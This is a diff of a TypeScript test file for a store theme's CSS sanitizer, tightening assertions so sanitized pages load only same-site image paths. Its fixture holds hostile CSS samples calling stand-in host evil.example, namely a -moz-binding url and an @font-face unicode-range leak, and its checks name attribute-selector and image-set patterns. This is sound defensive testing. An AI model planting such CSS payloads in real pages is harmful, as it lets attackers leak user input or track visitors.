@@ -60,6 +60,7 @@ const HOSTILE_CSS = [
   '.g{-moz-binding:url(https://evil.example/x.xml#x)}',
   '@font-face{font-family:leak;src:url(https://evil.example/f.woff);unicode-range:U+0061}',
   `.h{background:url(${'https://cdn.hostile.example/ok.png'})}`,
+  '.h2{background:url(/mockups/ok.svg)}',
 ].join('\n')
 
 function hostileTheme(): ThemeInput {
@@ -232,7 +233,8 @@ describe.each(PAGES)('the hostile store’s page %s', (path) => {
     expect(css).not.toMatch(/\[\s*(\*?\|)?\s*(value|type)\b/i)
     expect(css).not.toMatch(/image-set\s*\(\s*["']/i)
     const urls = [...css.matchAll(/url\(\s*["']?([^"')]*)/gi)].map((match) => match[1])
-    for (const url of urls) expect(hostOf(url), url).toBe('cdn.hostile.example')
+    // Only paths on the store itself (no IMAGE_HOSTS are configured here).
+    for (const url of urls) expect(url.startsWith('/') && !url.startsWith('//') ? null : url, url).toBeNull()
     for (const href of page().facts.stylesheets)
       expect(href.startsWith('/') || hostOf(href) === null ? href : hostOf(href)).not.toBe('127.0.0.1')
   })
@@ -252,7 +254,9 @@ describe('the hostile store', () => {
         ?.facts.styles.map((style) => style.text)
         .join('\n') ?? ''
     expect(css).toContain('.hostile-ok{color:#123456}')
-    expect(css).toContain('https://cdn.hostile.example/ok.png')
+    expect(css).toContain('/mockups/ok.svg')
+    // The theme's own image host is the merchant's choice: pages show its images, CSS loads none.
+    expect(css).not.toContain('https://cdn.hostile.example/ok.png')
   })
 
   it("refuses About blocks other than the spec's paragraphs and ordered lists", () => {
